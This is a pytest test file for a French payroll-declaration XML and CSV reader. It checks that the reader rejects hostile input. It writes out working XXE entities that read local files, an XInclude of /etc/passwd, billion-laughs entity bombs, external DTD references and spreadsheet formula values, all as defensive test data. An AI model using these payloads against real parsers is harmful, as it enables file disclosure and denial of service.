"""Hostile and broken input: XXE, entity bombs, external references, binary junk, odd encodings, formulas."""

from __future__ import annotations

import json
import random
import subprocess
import sys

import pytest

from exchange.core.reading import read_declaration
from exchange.core.reading.csv_reader import read_csv
from exchange.core.reading.xml_reader import CHUNK_RECORDS, read_xml, stream_records
from schemas.anomalies import Anomaly
from schemas.declaration import RG_COLUMNS, parse_file_name
from tests.conftest import EXAMPLES, ROOT

RG_XML = (EXAMPLES / "drop" / "horizon-paie" / "depot" / "ESAT_44306184100021_RG_20251211_001.xml").read_bytes()
PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = RG_XML[len(PROLOG) :]
RG_HEADER = ";".join(RG_COLUMNS)
RG_LINE = "81234567600017;750012345;2025;185057800608491;Martin;Jérôme;12/05/1985;1234567;78;01/09/2010;100;862,35;150,12;712,23;N;;;;;"


def f08(result) -> None:
    assert result.frame is None
    assert [a.code for a in result.anomalies] == ["F08"]
    assert result.anomalies[0].message.startswith("Le fichier XML contient une déclaration DOCTYPE")


def with_dtd(dtd: str, use: str = "") -> bytes:
    return PROLOG + dtd.encode() + b"\n" + BODY.replace(b"<nom>Santoni</nom>", f"<nom>Santoni{use}</nom>".encode())


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("CONFIDENTIEL-7f3a9c", encoding="utf-8")
    return path


def test_xxe_system_entity_reading_a_local_file(secret):
    doc = with_dtd(f'<!DOCTYPE declaration [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;")
    result = read_xml(doc, "RG")
    f08(result)
    assert "CONFIDENTIEL" not in repr(result)


def test_xxe_is_not_resolved_even_past_the_guard(secret):
    """Defence in depth: the parser itself resolves no entity and loads no DTD."""
    doc = with_dtd(f'<!DOCTYPE declaration [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;")
    outcome = stream_records(doc, "RG")
    assert "CONFIDENTIEL" not in repr(outcome)
    if not isinstance(outcome, Anomaly):
        assert "CONFIDENTIEL" not in str(outcome.to_dicts())


def test_billion_laughs():
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)
    ]
    doc = with_dtd("<!DOCTYPE declaration [" + "".join(lol) + "]>", "&lol9;")
    f08(read_xml(doc, "RG"))


def test_external_dtd():
    f08(read_xml(with_dtd('<!DOCTYPE declaration SYSTEM "http://example.invalid/declaration.dtd">'), "RG"))
    f08(read_xml(with_dtd('<!DOCTYPE declaration PUBLIC "-//X//Y" "declaration.dtd">'), "RG"))


def test_parameter_entities():
    dtd = '<!DOCTYPE declaration [<!ENTITY % ext SYSTEM "http://example.invalid/x.dtd"> %ext;]>'
    f08(read_xml(with_dtd(dtd), "RG"))


def test_entity_declaration_without_doctype_keyword_case():
    f08(read_xml(with_dtd("<!doctype declaration>"), "RG"))


@pytest.mark.parametrize(
    "codec,bom", [("utf-16", True), ("utf-16-le", False), ("utf-16-be", False), ("utf-32", True), ("utf-32-le", False)]
)
def test_doctype_in_utf16_and_utf32(secret, codec, bom):
    text = with_dtd(f'<!DOCTYPE declaration [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;").decode()
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    result = read_xml(text.encode(codec), "RG")
    f08(result)
    assert "CONFIDENTIEL" not in repr(result)


def test_doctype_hidden_behind_a_declared_single_byte_encoding():
    doc = PROLOG.replace(b"UTF-8", b"UTF-7") + b"+ADw-!DOCTYPE declaration+AD4-\n" + BODY
    f08(read_xml(doc, "RG"))


def test_xinclude():
    doc = RG_XML.replace(
        b"<siretEsat>",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><siretEsat>',
        1,
    )
    f08(read_xml(doc, "RG"))


def test_stylesheet_processing_instruction():
    f08(read_xml(PROLOG + b'<?xml-stylesheet type="text/xsl" href="http://example.invalid/x.xsl"?>\n' + BODY, "RG"))


def test_schema_location_is_ignored(secret):
    doc = RG_XML.replace(
        b'type="RG"',
        f'type="RG" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:esat:declaration:v1 file://{secret}"'.encode(),
    )
    result = read_xml(doc, "RG")
    assert result.anomalies == [] and result.frame.height == 2


def test_excessive_nesting_is_refused_not_crashed():
    deep = b"<x>" * 5000 + b"</x>" * 5000
    result = read_xml(RG_XML.replace(b"<nom>Santoni</nom>", b"<nom>" + deep + b"</nom>"), "RG")
    assert result.frame is None
    assert result.blocking.code == "F03"


@pytest.mark.parametrize("ext", ["csv", "xml"])
def test_binary_junk(ext):
    rng = random.Random(20251215)
    junk = bytes(rng.randrange(256) for _ in range(4096)) + b"\x00\x00"
    name = parse_file_name(f"ESAT_81234567600017_RG_20251210_001.{ext}")
    result = read_declaration(junk, name)
    assert result.frame is None
    assert [(a.code, a.ligne) for a in result.anomalies] == [("F01", None)]
    assert result.anomalies[0].message.startswith("Le fichier n'est pas un fichier texte")


@pytest.mark.parametrize("ext", ["csv", "xml"])
@pytest.mark.parametrize("data", [b"", b"   \r\n\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\n \n"])
def test_empty_file(ext, data):
    result = read_declaration(data, parse_file_name(f"ESAT_81234567600017_RG_20251210_001.{ext}"))
    assert result.frame is None
    assert [a.code for a in result.anomalies] == ["F01"]
    assert result.anomalies[0].message == "Le fichier est vide : renvoyez-le avec son contenu."


@pytest.mark.parametrize(
    "data,code,start",
    [
        (b"a", "F01", "Le fichier ne contient aucun enregistrement"),
        (b"\x00", "F01", "Le fichier n'est pas un fichier texte"),
        (b"\xff", "F01", "Le fichier ne contient aucun enregistrement"),
        (b";", "F01", "Le fichier ne contient aucun enregistrement"),
    ],
)
def test_one_byte_csv(data, code, start):
    result = read_csv(data, "RG")
    assert result.frame is None and result.blocking.code == code
    assert result.blocking.message.startswith(start)


@pytest.mark.parametrize(
    "data,start",
    [
        (b"<", "Le fichier XML est mal formé"),
        (b"a", "Le fichier est illisible (le contenu n'est pas du XML)"),
        (b"\x01", "Le fichier n'est pas un fichier texte"),
    ],
)
def test_one_byte_xml(data, start):
    result = read_xml(data, "RG")
    assert result.frame is None and result.blocking.message.startswith(start)


def test_windows_1252_csv_with_accents():
    data = f"{RG_HEADER}\n{RG_LINE.replace('Martin', 'Lefèvre')}\n".encode("cp1252")
    result = read_csv(data, "RG")
    assert [a.code for a in result.anomalies] == ["W07"]
    assert result.frame["nom"].to_list() == ["Lefèvre"]
    assert result.frame["prenoms"].to_list() == ["Jérôme"]


def test_bom_crlf_and_blank_lines_give_exact_lines():
    lines = [
        RG_HEADER,
        "",
        RG_LINE,
        "",
        "",
        RG_LINE.replace("Martin", "Durand"),
        " ",
        RG_LINE.replace("Martin", "Petit"),
        "",
    ]
    data = b"\xef\xbb\xbf" + "\r\n".join(lines).encode()
    result = read_csv(data, "RG")
    assert result.anomalies == [] and result.encoding == "utf-8-sig"
    assert result.frame["ligne"].to_list() == [3, 6, 8]
    assert result.frame["nom"].to_list() == ["Martin", "Durand", "Petit"]


def test_formula_like_values_are_read_verbatim():
    formula = '=HYPERLINK("http://example.invalid/?x="&A1;"clic")'
    quoted = '"' + formula.replace('"', '""') + '"'
    csv_row = read_csv(
        f"{RG_HEADER}\n{RG_LINE.replace('Martin', quoted).replace('Jérôme', '+33;-1')}\n".encode().replace(
            b"+33;-1", b'"+33;-1"'
        ),
        "RG",
    ).frame.row(0, named=True)
    assert csv_row["nom"] == formula
    assert csv_row["prenoms"] == "+33;-1"
    xml = RG_XML.replace(b"<nom>Santoni</nom>", b"<nom>=HYPERLINK(&quot;http://example.invalid&quot;)</nom>")
    assert read_xml(xml, "RG").frame["nom"][0] == '=HYPERLINK("http://example.invalid")'


def test_control_characters_inside_a_csv_are_binary():
    data = f"{RG_HEADER}\n{RG_LINE.replace('Martin', 'Mar' + chr(7) + 'tin')}\n".encode()
    assert read_csv(data, "RG").blocking.code == "F01"


def test_giant_unquoted_field_is_a_value_not_a_crash():
    data = f"{RG_HEADER}\n{RG_LINE.replace('Martin', 'M' * 300_000)}\n".encode()
    assert read_csv(data, "RG").frame["nom"].str.len_chars()[0] == 300_000


def test_giant_quoted_field_is_refused_with_its_line():
    data = f"{RG_HEADER}\n{RG_LINE}\n{RG_LINE.replace('Martin', chr(34) + 'M' * 300_000 + chr(34))}\n".encode()
    result = read_csv(data, "RG")
    assert result.blocking.code == "F01"
    assert "ligne 3" in result.blocking.message


def test_undeclared_entity_without_doctype_is_malformed(secret):
    result = read_xml(RG_XML.replace(b"<nom>Santoni</nom>", b"<nom>&xxe;</nom>"), "RG")
    assert result.frame is None
    assert result.blocking.code == "F03" and "mal formé" in result.blocking.message
    assert "xxe" in result.blocking.message


# -- a long stray text between two elements (found by fuzzing) -----------------------------------------
# The parser reads 32 KiB at a time: when an element's end is reported, the text after it may be only partly
# parsed. Moving the element (with that text) out of the growing document then hung the reader or aborted
# the process ("corrupted double-linked list"), taking `run` down while it held the cycle lock. Each case
# runs in a child process with a timeout, so that a regression fails the test instead of killing pytest.

STRAY_TEXT = (
    "Le fichier XML n'est pas conforme au schéma de la déclaration, ligne 2 : la valeur «  » de "
    "<declaration> n'est pas permise. Corrigez-la, puis renvoyez le fichier."
)
JUDGE_PROBE = """
import json, sys
from datetime import date
from exchange.core.judge import judge
from exchange.core.reading import read_declaration
from schemas.declaration import parse_file_name
name = "ESAT_44306184100021_RG_20251211_001.xml"
data = open(sys.argv[1], "rb").read()
read = read_declaration(data, parse_file_name(name))
j = judge(data, name, date(2025, 12, 15), max_file_bytes=50 << 20, max_records=100_000)
print(json.dumps({"read": [[a.code, a.message, a.ligne] for a in read.anomalies],
                  "rows": None if read.frame is None else read.frame.height,
                  "judged": [j.statut, j.file_code, j.anomalies["message"].to_list()]}))
"""


def judged_in_a_child(tmp_path, data: bytes) -> dict:
    """read_declaration and judge on data, in a child process given 60 s (a hang or an abort fails)."""
    path = tmp_path / "declaration.xml"
    path.write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-c", JUDGE_PROBE, str(path)], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, (done.returncode, done.stderr[-2000:])
    return json.loads(done.stdout)


def many_records(count: int) -> bytes:
    """The RG example with its second record repeated: `count` records in all."""
    start = RG_XML.index(b"  <salarie>", RG_XML.index(b"</salarie>"))
    end = RG_XML.index(b"</salarie>", start) + len(b"</salarie>\n")
    return RG_XML[:start] + RG_XML[start:end] * (count - 1) + RG_XML[end:]


@pytest.mark.parametrize("count", [3, 20_000, 300_000])
@pytest.mark.parametrize("after", ["</anneeReference>", "</salarie>"])
def test_long_stray_text_after_an_element_is_f03_in_bounded_time(tmp_path, after, count):
    data = RG_XML.replace(after.encode(), after.encode() + "é".encode() * count, 1)
    found = judged_in_a_child(tmp_path, data)
    assert found["read"] == [["F03", STRAY_TEXT, 2]] and found["rows"] is None
    assert found["judged"] == ["REJETE", "F03", [STRAY_TEXT]]


def test_long_stray_text_after_the_last_record_of_a_validation_chunk(tmp_path):
    data = many_records(CHUNK_RECORDS + 5)
    at = -1
    for _ in range(CHUNK_RECORDS):
        at = data.index(b"</salarie>", at + 1)
    at += len(b"</salarie>")
    found = judged_in_a_child(tmp_path, data[:at] + "é".encode() * 300_000 + data[at:])
    assert found["read"] == [["F03", STRAY_TEXT, 2]]


@pytest.mark.parametrize("blank", [" ", "\n", "\t\r\n"])
@pytest.mark.parametrize("after", ["</anneeReference>", "</salarie>"])
def test_long_white_space_between_elements_is_read(tmp_path, after, blank):
    """White space is allowed between elements: a file padded with 600 KB of it is read like the example."""
    data = RG_XML.replace(after.encode(), after.encode() + blank.encode() * (600_000 // len(blank)), 1)
    found = judged_in_a_child(tmp_path, data)
    assert (found["read"], found["rows"], found["judged"][:2]) == ([], 2, ["ACCEPTE", None])
